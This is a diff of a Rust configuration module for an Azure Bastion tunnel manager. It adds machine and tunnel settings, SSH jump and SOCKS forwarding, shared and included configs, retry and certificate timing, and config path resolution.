@@ -1,39 +1,769 @@
+use crate::azure::auth::Auth;
+use crate::azure::cert::CertTiming;
+use crate::azure::retry::RetryPolicy;
+use crate::model::{
+    AksCluster, Database, Hooks, Machine, Preset, SshForward, TagColor, TargetType,
+};
+use crate::policy::Policy;
+use crate::ssh::TmuxTarget;
+use crate::tui::theme::Theme;
 use color_eyre::eyre::{eyre, Context, Result};
+use serde::de::{Deserializer, MapAccess, Visitor};
 use serde::Deserialize;
+use std::fmt;
+use std::net::IpAddr;
 use std::path::{Path, PathBuf};
+use std::time::Duration;
 
 #[derive(Debug, Clone, Deserialize)]
 pub struct MachineConfig {
     pub name: String,
     pub resource_group: String,
+    /// Looked up from `name` + `resource_group` at startup when omitted.
+    #[serde(default)]
     pub target_resource_id: String,
+    /// `vm`, `arc` or `vmss`; inferred from `target_resource_id` when omitted.
+    #[serde(default)]
+    pub target_type: Option<TargetType>,
+    /// For `vmss`: always use this instance instead of picking one on create.
+    #[serde(default)]
+    pub instance_id: Option<String>,
+    /// Private IP for Bastion IP connect (Standard SKU), for hosts that have
+    /// no Azure resource, e.g. on-prem or in a peered network. Replaces
+    /// `target_resource_id`.
+    #[serde(default)]
+    pub target_ip: Option<String>,
+    /// Required for `vm` targets.
+    #[serde(default)]
     pub bastion_name: String,
+    #[serde(default)]
     pub bastion_resource_group: String,
     #[serde(default)]
     pub bastion_subscription: String,
     #[serde(default)]
     pub ssh_config_path: Option<String>,
+    /// Private key in `ssh_config_path` (or an absolute path) to certify and
+    /// log in with; `id_rsa` by default.
+    #[serde(default)]
+    pub ssh_key: Option<String>,
+    /// Renewal timing for this machine's certificate, over the top-level
+    /// `cert:`.
+    #[serde(default)]
+    pub cert: CertSettings,
+    /// Named port specs offered by the create dialog, e.g.
+    /// `postgres: "15432:5432"`. Kept in config order.
+    #[serde(default, deserialize_with = "ordered_map")]
+    pub presets: Vec<(String, String)>,
+}
+
+impl MachineConfig {
+    /// The configured target type, else inferred from the resource ID: an Arc
+    /// machine, a whole scale set, or (anything else) a single VM.
+    pub fn target_type(&self) -> TargetType {
+        self.target_type.unwrap_or_else(|| {
+            let id = self.target_resource_id.to_lowercase();
+            if id.contains("/microsoft.hybridcompute/machines/") {
+                TargetType::Arc
+            } else if id.contains("/virtualmachinescalesets/") && !id.contains("/virtualmachines/")
+            {
+                TargetType::Vmss
+            } else {
+                TargetType::Vm
+            }
+        })
+    }
+
+    /// The runtime machine, with `cert` (the top-level `cert:`) under its own
+    /// certificate settings. Presets must already have passed
+    /// [`Config::validate`].
+    pub fn into_machine(self, cert: CertSettings) -> Machine {
+        Machine {
+            target_type: self.target_type(),
+            name: self.name,
+            resource_group: self.resource_group,
+            target_resource_id: self.target_resource_id,
+            bastion_name: self.bastion_name,
+            bastion_resource_group: self.bastion_resource_group,
+            bastion_subscription: self.bastion_subscription,
+            ssh_config_path: self.ssh_config_path,
+            ssh_key: self.ssh_key,
+            cert_timing: self.cert.or(cert).timing(),
+            instance_id: self.instance_id,
+            target_ip: self.target_ip,
+            presets: self
+                .presets
+                .into_iter()
+                .filter_map(|(name, spec)| {
+                    let ports = crate::model::parse_port_spec(&spec).ok()?;
+                    Some(Preset { name, ports })
+                })
+                .collect(),
+        }
+    }
+}
+
+/// Deserialize a string-to-string map as a list, keeping the file's order.
+fn ordered_map<'de, D: Deserializer<'de>>(d: D) -> Result<Vec<(String, String)>, D::Error> {
+    struct OrderedMap;
+    impl<'de> Visitor<'de> for OrderedMap {
+        type Value = Vec<(String, String)>;
+        fn expecting(&self, f: &mut fmt::Formatter) -> fmt::Result {
+            f.write_str("a map of names to port specs")
+        }
+        fn visit_map<A: MapAccess<'de>>(self, mut map: A) -> Result<Self::Value, A::Error> {
+            let mut entries = Vec::new();
+            while let Some(entry) = map.next_entry()? {
+                entries.push(entry);
+            }
+            Ok(entries)
+        }
+    }
+    d.deserialize_map(OrderedMap)
+}
+
+/// A named tunnel declared in config; added to the tunnel list at startup.
+#[derive(Debug, Clone, Deserialize)]
+pub struct TunnelConfig {
+    pub name: String,
+    pub machine: String,
+    #[serde(default)]
+    pub local_port: Option<u16>,
+    #[serde(default)]
+    pub remote_port: Option<u16>,
+    /// Several forwards to the same machine as one connection, e.g.
+    /// `2022:22,8080:80`. Used instead of `local_port`/`remote_port`.
+    #[serde(default)]
+    pub ports: Option<String>,
+    /// Another configured tunnel that must be up before this one starts.
+    #[serde(default)]
+    pub wait_for: Option<String>,
+    /// How to tell `wait_for` is up: `tcp` or an `http://` URL. Without it the
+    /// dependency counts as ready as soon as it reports Active.
+    #[serde(default)]
+    pub ready_check: Option<String>,
+    /// Shell commands run when the tunnel starts, comes up, stops or fails,
+    /// with `BURROW_*` variables describing it.
+    #[serde(default)]
+    pub on_start: Option<String>,
+    #[serde(default)]
+    pub on_ready: Option<String>,
+    #[serde(default)]
+    pub on_stop: Option<String>,
+    #[serde(default)]
+    pub on_error: Option<String>,
+    /// Colour tag for the row: red, yellow, green, blue, magenta or cyan.
+    #[serde(default)]
+    pub color: Option<TagColor>,
+    /// Short marker shown before the name, e.g. an emoji or `PROD`.
+    #[serde(default)]
+    pub icon: Option<String>,
+    /// SSH user on the machine: makes the tunnel a SOCKS5 proxy on
+    /// `local_port`, reaching everything the machine can (`remote_port` is its
+    /// SSH port, 22 if left out).
+    #[serde(default)]
+    pub socks: Option<String>,
+    /// `user@host:port` of a host behind the machine to forward `local_port`
+    /// to over SSH, the machine acting as a jump host (`remote_port` is its
+    /// SSH port, 22 if left out).
+    #[serde(default)]
+    pub jump: Option<String>,
+    /// A private AKS cluster whose API server `jump` leads to: a kubeconfig
+    /// for it is written while the tunnel is up.
+    #[serde(default)]
+    pub aks: Option<AksConfig>,
+    /// The database behind the tunnel (`engine`: postgres, mysql or mssql),
+    /// for copying a connection string with `y`.
+    #[serde(default)]
+    pub database: Option<Database>,
+    /// Free text shown in the Note column, e.g. `pgAdmin for ticket #1234`.
+    #[serde(default)]
+    pub note: Option<String>,
+    /// Address to listen on instead of 127.0.0.1, e.g. `0.0.0.0` to let
+    /// containers or other machines on the LAN use the tunnel.
+    #[serde(default)]
+    pub bind_address: Option<IpAddr>,
+}
+
+#[derive(Debug, Clone, Deserialize)]
+pub struct AksConfig {
+    pub resource_group: String,
+    pub cluster: String,
+    /// Defaults to `~/.kube/az-burrow-<cluster>`.
+    #[serde(default)]
+    pub kubeconfig: Option<String>,
+}
+
+impl TunnelConfig {
+    pub fn hooks(&self) -> Hooks {
+        Hooks {
+            on_start: self.on_start.clone(),
+            on_ready: self.on_ready.clone(),
+            on_stop: self.on_stop.clone(),
+            on_error: self.on_error.clone(),
+        }
+    }
+
+    pub fn aks(&self) -> Option<AksCluster> {
+        self.aks.as_ref().map(|a| AksCluster {
+            resource_group: a.resource_group.clone(),
+            name: a.cluster.clone(),
+            kubeconfig: a
+                .kubeconfig
+                .clone()
+                .unwrap_or_else(|| format!("~/.kube/az-burrow-{}", a.cluster)),
+        })
+    }
+
+    /// The SSH stage set by `socks` or `jump`, if any.
+    pub fn ssh_forward(&self) -> Result<Option<SshForward>> {
+        match (&self.socks, &self.jump) {
+            (Some(_), Some(_)) => Err(eyre!("tunnel '{}' sets both socks and jump", self.name)),
+            (Some(user), None) => Ok(Some(SshForward::Socks { user: user.clone() })),
+            (None, Some(spec)) => SshForward::parse_jump(spec)
+                .map(Some)
+                .map_err(|e| eyre!("tunnel '{}' jump: {e}", self.name)),
+            (None, None) => Ok(None),
+        }
+    }
+
+    /// The (local, remote) port pairs this entry forwards.
+    pub fn port_pairs(&self) -> Result<Vec<(u16, u16)>> {
+        let via_ssh = self.socks.is_some() || self.jump.is_some();
+        match (&self.ports, self.local_port, self.remote_port) {
+            (Some(_), _, _) if via_ssh => Err(eyre!(
+                "tunnel '{}' goes on over SSH and takes local_port, not ports",
+                self.name
+            )),
+            (None, Some(local), None) if via_ssh => Ok(vec![(local, 22)]),
+            (Some(spec), None, None) => crate::model::parse_port_spec(spec)
+                .map_err(|e| eyre!("tunnel '{}': {e}", self.name)),
+            (None, Some(local), Some(remote)) => Ok(vec![(local, remote)]),
+            (Some(_), _, _) => Err(eyre!(
+                "tunnel '{}' sets both ports and local_port/remote_port",
+                self.name
+            )),
+            (None, _, _) => Err(eyre!(
+                "tunnel '{}' needs local_port and remote_port (or ports)",
+                self.name
+            )),
+        }
+    }
+}
+
+/// How many times to retry an operation when `az` fails transiently
+/// (throttling, network errors), and the delay before the first retry.
+#[derive(Debug, Clone, Copy, Deserialize)]
+pub struct RetrySettings {
+    pub retries: u32,
+    #[serde(default = "default_retry_delay")]
+    pub delay_secs: u64,
+}
+
+fn default_retry_delay() -> u64 {
+    2
+}
+
+impl RetrySettings {
+    fn policy(self) -> RetryPolicy {
+        RetryPolicy::new(self.retries, Duration::from_secs(self.delay_secs))
+    }
+}
+
+/// Per-operation retry settings; each falls back to its built-in default.
+#[derive(Debug, Clone, Copy, Default, Deserialize)]
+pub struct RetryConfig {
+    #[serde(default)]
+    pub tunnel: Option<RetrySettings>,
+    #[serde(default)]
+    pub cert: Option<RetrySettings>,
+}
+
+/// Certificate renewal timing, under `cert:` at the top level or on a
+/// machine. Unset fields fall back to the top level, then the defaults.
+#[derive(Debug, Clone, Copy, Default, Deserialize)]
+pub struct CertSettings {
+    /// Assumed lifetime when `az` doesn't print the expiry (default 60).
+    #[serde(default)]
+    pub lifetime_mins: Option<u64>,
+    /// Renew when this little is left (default 5).
+    #[serde(default)]
+    pub renewal_window_mins: Option<u64>,
+    /// Wait between failed renewals (default 30).
+    #[serde(default)]
+    pub retry_delay_secs: Option<u64>,
+}
+
+impl CertSettings {
+    /// These settings, with `fallback`'s where unset.
+    pub fn or(self, fallback: CertSettings) -> CertSettings {
+        CertSettings {
+            lifetime_mins: self.lifetime_mins.or(fallback.lifetime_mins),
+            renewal_window_mins: self.renewal_window_mins.or(fallback.renewal_window_mins),
+            retry_delay_secs: self.retry_delay_secs.or(fallback.retry_delay_secs),
+        }
+    }
+
+    pub fn timing(self) -> CertTiming {
+        let default = CertTiming::default();
+        let mins = |m: u64| chrono::Duration::minutes(m as i64);
+        CertTiming {
+            lifetime: self.lifetime_mins.map_or(default.lifetime, mins),
+            renewal_window: self
+                .renewal_window_mins
+                .map_or(default.renewal_window, mins),
+            retry_delay: self
+                .retry_delay_secs
+                .map_or(default.retry_delay, |s| chrono::Duration::seconds(s as i64)),
+        }
+    }
+
+    fn validate(self, context: &str) -> Result<()> {
+        let timing = self.timing();
+        if self.retry_delay_secs == Some(0) {
+            return Err(eyre!("{context}: cert retry_delay_secs must be above 0"));
+        }
+        if timing.renewal_window >= timing.lifetime {
+            return Err(eyre!(
+                "{context}: cert renewal_window_mins must be shorter than lifetime_mins"
+            ));
+        }
+        Ok(())
+    }
+}
+
+/// Where to report tunnel and certificate events.
+#[derive(Debug, Clone, Default, Deserialize)]
+pub struct NotificationsConfig {
+    /// POSTed a JSON object per event, e.g. a Slack or Teams workflow URL.
+    #[serde(default)]
+    pub webhook_url: Option<String>,
 }
 
 #[derive(Debug, Deserialize)]
 pub struct Config {
+    /// A shared team config that supplies the machines (and tunnels) this
+    /// file doesn't: `azblob://`, `azkv://`, `https://` or `git+` (see
+    /// `azure::shared`).
+    #[serde(default)]
+    pub config_source: Option<String>,
+    /// Other config files, or directories of `*.yaml` files, merged under
+    /// this one in order, e.g. a team machine list beneath personal
+    /// overrides. Relative paths are from this file's directory.
+    #[serde(default)]
+    pub include: Vec<String>,
+    /// node_exporter textfile-collector file to keep updated with tunnel and
+    /// certificate metrics, e.g. `/var/lib/node_exporter/az_burrow.prom`.
+    #[serde(default)]
+    pub metrics_textfile: Option<String>,
+    /// Azure cloud for every `az` call: `AzureCloud` (default),
+    /// `AzureUSGovernment` or `AzureChinaCloud`.
+    #[serde(default)]
+    pub cloud: Option<String>,
+    /// Azure CLI to run instead of `az` from `PATH`, e.g. a venv install.
+    #[serde(default)]
+    pub az_path: Option<String>,
+    /// Extra arguments for every `az` call, e.g. `--only-show-errors`.
+    #[serde(default)]
+    pub az_args: Vec<String>,
+    /// Sign in as a service principal (client secret, certificate or
+    /// workload identity) instead of using the user's az login.
+    #[serde(default)]
+    pub auth: Option<Auth>,
+    #[serde(default)]
+    pub retry: RetryConfig,
+    #[serde(default)]
+    pub cert: CertSettings,
+    /// Seconds a stopping tunnel gets to exit before it is killed (default 5).
+    #[serde(default)]
+    pub stop_timeout_secs: Option<u64>,
+    /// Seconds a starting tunnel gets to come up before it is stopped and
+    /// marked failed (default 60; 0 waits forever).
+    #[serde(default)]
+    pub start_timeout_secs: Option<u64>,
+    #[serde(default)]
+    pub notifications: NotificationsConfig,
+    /// Append-only JSON-lines record of tunnels created, started, stopped and
+    /// deleted, and certificates regenerated, e.g. `~/.az-burrow/audit.log`.
+    #[serde(default)]
+    pub audit_log: Option<String>,
+    /// Mirror each tunnel's output to a log file under
+    /// `~/.local/state/burrow/logs`, rotated as it grows.
+    #[serde(default)]
+    pub log_files: Option<bool>,
+    /// Lines of each tunnel's output kept for the logs view (default 100).
+    #[serde(default)]
+    pub log_lines: Option<usize>,
+    /// Local ports tunnels may use and whether they may listen beyond
+    /// loopback. A shared config's policy wins over a local one.
+    #[serde(default)]
+    pub policy: Option<Policy>,
+    /// Add every generated or renewed certificate to ssh-agent, valid until
+    /// it expires.
+    #[serde(default)]
+    pub ssh_agent: Option<bool>,
+    /// Inside tmux, open `s` SSH sessions in a new `window` (default) or a
+    /// `pane` beside az-burrow.
+    #[serde(default)]
+    pub tmux: Option<TmuxTarget>,
+    /// Draw with ASCII only: status markers as text, no emoji or other wide
+    /// characters. Also `--ascii` or `BURROW_ASCII=1`.
+    #[serde(default)]
+    pub ascii: Option<bool>,
+    /// `cosy` (default) or `high-contrast`: full-brightness colours, and
+    /// tunnel states that don't rely on telling red from green.
+    #[serde(default)]
+    pub theme: Option<Theme>,
+    #[serde(default)]
     pub machines: Vec<MachineConfig>,
+    #[serde(default)]
+    pub tunnels: Vec<TunnelConfig>,
 }
 
 impl Config {
+    /// How to run `az` under this config.
+    pub fn az_settings(&self) -> crate::azure::AzSettings {
+        crate::azure::AzSettings {
+            path: self.az_path.as_deref().map(expand_tilde),
+            args: self.az_args.clone(),
+            cloud: self.cloud.clone(),
+            config_dir: self
+                .auth
+                .as_ref()
+                .and_then(|a| a.login().ok()?.config_dir())
+                .map(|d| d.to_string_lossy().into_owned()),
+        }
+    }
+
+    /// Retry policy for tunnels that exit with a transient `az` error.
+    pub fn tunnel_retry(&self) -> RetryPolicy {
+        self.retry
+            .tunnel
+            .map_or(crate::azure::tunnel::DEFAULT_RETRY, RetrySettings::policy)
+    }
+
+    /// Retry policy for `az ssh cert` generation and renewal.
+    pub fn cert_retry(&self) -> RetryPolicy {
+        self.retry
+            .cert
+            .map_or(crate::azure::cert::DEFAULT_RETRY, RetrySettings::policy)
+    }
+
+    /// How long a stopping tunnel gets to exit before it is killed.
+    pub fn stop_timeout(&self) -> Duration {
+        self.stop_timeout_secs.map_or(
+            crate::azure::tunnel::DEFAULT_STOP_TIMEOUT,
+            Duration::from_secs,
+        )
+    }
+
+    /// How long a starting tunnel gets to come up; `None` waits forever.
+    pub fn start_timeout(&self) -> Option<Duration> {
+        match self.start_timeout_secs {
+            Some(0) => None,
+            secs => Some(secs.map_or(
+                crate::azure::tunnel::DEFAULT_START_TIMEOUT,
+                Duration::from_secs,
+            )),
+        }
+    }
+
+    /// How many lines of output each tunnel keeps.
+    pub fn log_lines(&self) -> usize {
+        self.log_lines
+            .unwrap_or(crate::azure::tunnel::DEFAULT_LOG_LINES)
+    }
+
+    /// This config as downloaded from a `config_source`, without what only
+    /// the user's own files may set: which `az` to run and with what, how to
+    /// sign in, tunnel hooks, and files or URLs written to. Anyone who can
+    /// publish the shared config could otherwise run commands on, or read
+    /// from, every machine that uses it.
+    pub fn shared(mut self) -> Config {
+        self.az_path = None;
+        self.az_args.clear();
+        self.auth = None;
+        self.metrics_textfile = None;
+        self.notifications.webhook_url = None;
+        for t in &mut self.tunnels {
+            t.on_start = None;
+            t.on_ready = None;
+            t.on_stop = None;
+            t.on_error = None;
+        }
+        self
+    }
+
+    /// Layer this (local) config over a shared one: a local machine replaces
+    /// the shared machine of the same name, everything else is appended.
+    pub fn over(self, mut shared: Config) -> Config {
+        for m in self.machines {
+            match shared.machines.iter_mut().find(|s| s.name == m.name) {
+                Some(s) => *s = m,
+                None => shared.machines.push(m),
+            }
+        }
+        shared.tunnels.extend(self.tunnels);
+        shared.config_source = self.config_source;
+        shared.metrics_textfile = self.metrics_textfile.or(shared.metrics_textfile);
+        shared.cloud = self.cloud.or(shared.cloud);
+        shared.az_path = self.az_path.or(shared.az_path);
+        shared.auth = self.auth.or(shared.auth);
+        if !self.az_args.is_empty() {
+            shared.az_args = self.az_args;
+        }
+        shared.retry.tunnel = self.retry.tunnel.or(shared.retry.tunnel);
+        shared.retry.cert = self.retry.cert.or(shared.retry.cert);
+        shared.cert = self.cert.or(shared.cert);
+        shared.stop_timeout_secs = self.stop_timeout_secs.or(shared.stop_timeout_secs);
+        shared.start_timeout_secs = self.start_timeout_secs.or(shared.start_timeout_secs);
+        shared.audit_log = self.audit_log.or(shared.audit_log);
+        shared.log_files = self.log_files.or(shared.log_files);
+        shared.log_lines = self.log_lines.or(shared.log_lines);
+        shared.policy = shared.policy.or(self.policy);
+        shared.ssh_agent = self.ssh_agent.or(shared.ssh_agent);
+        shared.tmux = self.tmux.or(shared.tmux);
+        shared.ascii = self.ascii.or(shared.ascii);
+        shared.theme = self.theme.or(shared.theme);
+        shared.notifications.webhook_url = self
+            .notifications
+            .webhook_url
+            .or(shared.notifications.webhook_url);
+        shared
+    }
+
     pub fn validate(&self) -> Result<()> {
         if self.machines.is_empty() {
             return Err(eyre!("no machines defined in config file"));
         }
+        if let Some(cloud) = &self.cloud {
+            if !crate::azure::CLOUDS.contains(&cloud.as_str()) {
+                return Err(eyre!(
+                    "unknown cloud '{cloud}' (expected one of: {})",
+                    crate::azure::CLOUDS.join(", ")
+                ));
+            }
+        }
+        if self.log_lines == Some(0) {
+            return Err(eyre!("log_lines must be at least 1"));
+        }
+        self.cert.validate("cert")?;
+        let policy = self.policy.clone().unwrap_or_default();
+        policy.validate().map_err(|e| eyre!("policy: {e}"))?;
+        for m in &self.machines {
+            m.cert
+                .or(self.cert)
+                .validate(&format!("machine '{}'", m.name))?;
+            if m.target_type() != TargetType::Arc
+                && (m.bastion_name.is_empty() || m.bastion_resource_group.is_empty())
+            {
+                return Err(eyre!(
+                    "machine '{}' needs bastion_name and bastion_resource_group",
+                    m.name
+                ));
+            }
+            if m.instance_id.is_some() && m.target_type() != TargetType::Vmss {
+                return Err(eyre!(
+                    "machine '{}' sets instance_id but is not a scale set",
+                    m.name
+                ));
+            }
+            if let Some(ip) = &m.target_ip {
+                if !m.target_resource_id.is_empty() || m.target_type() != TargetType::Vm {
+                    return Err(eyre!(
+                        "machine '{}': target_ip cannot be combined with target_resource_id or a non-vm target_type",
+                        m.name
+                    ));
+                }
+                ip.parse::<std::net::IpAddr>().map_err(|_| {
+                    eyre!(
+                        "machine '{}': target_ip '{ip}' is not an IP address",
+                        m.name
+                    )
+                })?;
+            }
+            // Presets are local tunnels like any other, so the policy holds.
+            for (name, spec) in &m.presets {
+                let pairs = crate::model::parse_port_spec(spec)
+                    .map_err(|e| eyre!("machine '{}' preset '{name}': {e}", m.name))?;
+                for (local, _) in pairs {
+                    policy
+                        .check(&local.to_string(), None)
+                        .map_err(|e| eyre!("machine '{}' preset '{name}': {e}", m.name))?;
+                }
+            }
+        }
+        for t in &self.tunnels {
+            if !self.machines.iter().any(|m| m.name == t.machine) {
+                return Err(eyre!(
+                    "tunnel '{}' refers to unknown machine '{}'",
+                    t.name,
+                    t.machine
+                ));
+            }
+            for (local, _) in t.port_pairs()? {
+                policy
+                    .check(&local.to_string(), t.bind_address)
+                    .map_err(|e| eyre!("tunnel '{}': {e}", t.name))?;
+            }
+            t.ssh_forward()?;
+            if t.aks.is_some() && t.jump.is_none() {
+                return Err(eyre!(
+                    "tunnel '{}' is for AKS and needs jump: <user>@<API server FQDN>:443",
+                    t.name
+                ));
+            }
+            if self.tunnels.iter().filter(|o| o.name == t.name).count() > 1 {
+                return Err(eyre!("tunnel name '{}' is used more than once", t.name));
+            }
+            if let Some(dep) = &t.wait_for {
+                if !self.tunnels.iter().any(|o| &o.name == dep) {
+                    return Err(eyre!(
+                        "tunnel '{}' waits for unknown tunnel '{dep}'",
+                        t.name
+                    ));
+                }
+            }
+            if let Some(check) = &t.ready_check {
+                if t.wait_for.is_none() {
+                    return Err(eyre!(
+                        "tunnel '{}' has a ready_check but no wait_for",
+                        t.name
+                    ));
+                }
+                crate::readiness::ReadyCheck::parse(check)
+                    .wrap_err_with(|| format!("tunnel '{}'", t.name))?;
+            }
+            // Walk the wait_for chain; revisiting the start means a cycle.
+            let mut next = t.wait_for.as_deref();
+            for _ in 0..self.tunnels.len() {
+                let Some(dep) = next else { break };
+                if dep == t.name {
+                    return Err(eyre!("tunnel '{}' waits for itself (cycle)", t.name));
+                }
+                next = self
+                    .tunnels
+                    .iter()
+                    .find(|o| o.name == dep)
+                    .and_then(|o| o.wait_for.as_deref());
+            }
+        }
         Ok(())
     }
 }
 
+/// Build a one-tunnel config from a quick spec,
+/// `<target-resource-id>:<bastion-name>:<bastion-resource-group>:<local>:<remote>`
+/// (from `--quick` or `BURROW_QUICK`), for one-off access without a config file.
+pub fn quick(spec: &str) -> Result<Config> {
+    let usage = || {
+        eyre!("quick tunnel must look like <resource-id>:<bastion>:<bastion-rg>:<local-port>:<remote-port>")
+    };
+    // Split from the right: the resource ID is the only part that could
+    // conceivably contain a colon.
+    let mut parts = spec.trim().rsplitn(5, ':');
+    let remote_port = parts.next().ok_or_else(usage)?;
+    let local_port = parts.next().ok_or_else(usage)?;
+    let bastion_resource_group = parts.next().ok_or_else(usage)?;
+    let bastion_name = parts.next().ok_or_else(usage)?;
+    let target_resource_id = parts.next().ok_or_else(usage)?;
+    let port = |p: &str| {
+        p.parse::<u16>()
+            .ok()
+            .filter(|&n| n > 0)
+            .ok_or_else(|| eyre!("invalid port '{p}' in quick tunnel"))
+    };
+    let (local_port, remote_port) = (port(local_port)?, port(remote_port)?);
+    if [target_resource_id, bastion_name, bastion_resource_group]
+        .iter()
+        .any(|s| s.is_empty())
+    {
+        return Err(usage());
+    }
+
+    // The VM name and resource group are the ID's last and
+    // `resourceGroups/<rg>` segments.
+    let segments: Vec<&str> = target_resource_id.split('/').collect();
+    let name = segments
+        .last()
+        .filter(|s| !s.is_empty())
+        .ok_or_else(|| eyre!("quick tunnel resource ID '{target_resource_id}' has no VM name"))?
+        .to_string();
+    let resource_group = segments
+        .iter()
+        .position(|s| s.eq_ignore_ascii_case("resourceGroups"))
+        .and_then(|i| segments.get(i + 1))
+        .map(|s| s.to_string())
+        .unwrap_or_default();
+
+    let cfg = Config {
+        config_source: None,
+        include: Vec::new(),
+        metrics_textfile: None,
+        cloud: None,
+        az_path: None,
+        az_args: Vec::new(),
+        auth: None,
+        retry: RetryConfig::default(),
+        cert: CertSettings::default(),
+        stop_timeout_secs: None,
+        start_timeout_secs: None,
+        notifications: NotificationsConfig::default(),
+        audit_log: None,
+        log_files: None,
+        log_lines: None,
+        policy: None,
+        ssh_agent: None,
+        tmux: None,
+        ascii: None,
+        theme: None,
+        machines: vec![MachineConfig {
+            name: name.clone(),
+            resource_group,
+            target_resource_id: target_resource_id.to_string(),
+            target_type: None,
+            instance_id: None,
+            target_ip: None,
+            bastion_name: bastion_name.to_string(),
+            bastion_resource_group: bastion_resource_group.to_string(),
+            bastion_subscription: String::new(),
+            ssh_config_path: None,
+            ssh_key: None,
+            cert: CertSettings::default(),
+            presets: Vec::new(),
+        }],
+        tunnels: vec![TunnelConfig {
+            name: name.clone(),
+            machine: name,
+            local_port: Some(local_port),
+            remote_port: Some(remote_port),
+            ports: None,
+            wait_for: None,
+            ready_check: None,
+            on_start: None,
+            on_ready: None,
+            on_stop: None,
+            on_error: None,
+            color: None,
+            icon: None,
+            socks: None,
+            jump: None,
+            aks: None,
+            database: None,
+            note: None,
+            bind_address: None,
+        }],
+    };
+    cfg.validate()?;
+    Ok(cfg)
+}
+
 pub fn parse(text: &str) -> Result<Config> {
     serde_norway::from_str(text).wrap_err("failed to parse config file")
 }
 
-/// Read + parse + validate, reproducing Go's LoadOrPrompt error messages.
+/// Read + parse + validate, reproducing Go's LoadOrPrompt error messages. A
+/// config with a `config_source` is only complete once layered over the
+/// shared config (see `azure::shared`), so it is validated there instead.
 pub fn load(path: &Path) -> Result<Config> {
     let text = match std::fs::read_to_string(path) {
         Ok(t) => t,
@@ -45,23 +775,80 @@ pub fn load(path: &Path) -> Result<Config> {
         }
         Err(e) => return Err(e).wrap_err("failed to read config file"),
     };
-    let cfg = parse(&text)?;
-    cfg.validate()?;
+    let this = path.canonicalize().unwrap_or_else(|_| path.to_path_buf());
+    let cfg = with_includes(parse(&text)?, path, &mut vec![this])?;
+    if cfg.config_source.is_none() {
+        cfg.validate()?;
+    }
     Ok(cfg)
 }
 
-/// Replicates Go main.go config-path resolution.
-/// If `arg` is Some, use it. Otherwise: prefer `burrow.config.yaml` in CWD,
-/// then `<home>/.config/burrow.config.yaml`, picking the first that exists;
-/// fall back to the first candidate. The result is canonicalized to absolute.
-pub fn resolve_config_path(arg: Option<&str>) -> Result<PathBuf> {
-    let chosen: PathBuf = if let Some(a) = arg {
-        PathBuf::from(a)
-    } else {
-        let mut candidates = vec![PathBuf::from("burrow.config.yaml")];
-        if let Some(h) = home::home_dir() {
-            candidates.push(h.join(".config").join("burrow.config.yaml"));
+/// Layer `cfg`, read from `path`, over its `include:`s, each over the ones
+/// before it (see [`Config::over`]). Included files may include others;
+/// `seen` holds every file merged so far, so a cycle is an error.
+fn with_includes(mut cfg: Config, path: &Path, seen: &mut Vec<PathBuf>) -> Result<Config> {
+    let dir = path.parent().unwrap_or(Path::new("."));
+    let mut base: Option<Config> = None;
+    for entry in std::mem::take(&mut cfg.include) {
+        for file in include_files(&dir.join(expand_tilde(&entry)), &entry)? {
+            let canonical = file.canonicalize().unwrap_or_else(|_| file.clone());
+            if seen.contains(&canonical) {
+                return Err(eyre!("{} is included more than once", file.display()));
+            }
+            seen.push(canonical);
+            let text = std::fs::read_to_string(&file)
+                .wrap_err_with(|| format!("reading included config {}", file.display()))?;
+            let included =
+                parse(&text).wrap_err_with(|| format!("in included config {}", file.display()))?;
+            let included = with_includes(included, &file, seen)?;
+            base = Some(match base {
+                Some(base) => included.over(base),
+                None => included,
+            });
         }
+    }
+    Ok(match base {
+        Some(base) => cfg.over(base),
+        None => cfg,
+    })
+}
+
+/// The files an `include:` entry names: the file itself, or a directory's
+/// `*.yaml` and `*.yml` files in name order.
+fn include_files(path: &Path, entry: &str) -> Result<Vec<PathBuf>> {
+    if !path.is_dir() {
+        if !path.exists() {
+            return Err(eyre!("include '{entry}' not found at {}", path.display()));
+        }
+        return Ok(vec![path.to_path_buf()]);
+    }
+    let mut files: Vec<PathBuf> = std::fs::read_dir(path)
+        .wrap_err_with(|| format!("reading include directory {}", path.display()))?
+        .filter_map(|e| e.ok().map(|e| e.path()))
+        .filter(|p| {
+            p.is_file()
+                && p.extension()
+                    .is_some_and(|ext| ext == "yaml" || ext == "yml")
+        })
+        .collect();
+    files.sort();
+    Ok(files)
+}
+
+/// Replicates Go main.go config-path resolution, plus `BURROW_CONFIG` and
+/// the XDG location.
+/// If `arg` is Some, use it; else `BURROW_CONFIG` if set. Otherwise pick the
+/// first of [`config_candidates`] that exists, falling back to the first
+/// candidate. The result is canonicalized to absolute.
+pub fn resolve_config_path(arg: Option<&Path>) -> Result<PathBuf> {
+    let from_env = std::env::var_os("BURROW_CONFIG")
+        .filter(|v| !v.is_empty())
+        .map(PathBuf::from);
+    let chosen: PathBuf = if let Some(a) = arg.map(Path::to_path_buf).or(from_env) {
+        a
+    } else {
+        let xdg = std::env::var_os("XDG_CONFIG_HOME").map(PathBuf::from);
+        let candidates = config_candidates(xdg, home::home_dir());
         candidates
             .iter()
             .find(|c| c.exists())
@@ -78,6 +865,24 @@ pub fn resolve_config_path(arg: Option<&str>) -> Result<PathBuf> {
     }
 }
 
+/// Where to look for a config when none is named: `burrow.config.yaml` in
+/// CWD, then `burrow/config.yaml` under `$XDG_CONFIG_HOME` (`~/.config`
+/// when unset or not absolute, as the XDG spec says), then the older
+/// `~/.config/burrow.config.yaml`.
+fn config_candidates(xdg_config_home: Option<PathBuf>, home: Option<PathBuf>) -> Vec<PathBuf> {
+    let mut candidates = vec![PathBuf::from("burrow.config.yaml")];
+    let xdg = xdg_config_home
+        .filter(|p| p.is_absolute())
+        .or_else(|| home.as_ref().map(|h| h.join(".config")));
+    if let Some(dir) = xdg {
+        candidates.push(dir.join("burrow").join("config.yaml"));
+    }
+    if let Some(h) = home {
+        candidates.push(h.join(".config").join("burrow.config.yaml"));
+    }
+    candidates
+}
+
 /// Expand a leading `~` or `~/` to the home directory. Hardened vs Go's `[2:]`.
 pub fn expand_tilde(p: &str) -> String {
     match home::home_dir() {
@@ -96,6 +901,15 @@ fn expand_tilde_with(p: &str, home: &Path) -> String {
     p.to_string()
 }
 
+/// `p` for display, with the home directory shortened back to `~`.
+pub fn contract_tilde(p: &Path) -> String {
+    match home::home_dir().and_then(|h| p.strip_prefix(h).ok().map(Path::to_path_buf)) {
+        Some(rest) if rest.as_os_str().is_empty() => "~".to_string(),
+        Some(rest) => format!("~/{}", rest.display()),
+        None => p.display().to_string(),
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -108,6 +922,9 @@ machines:
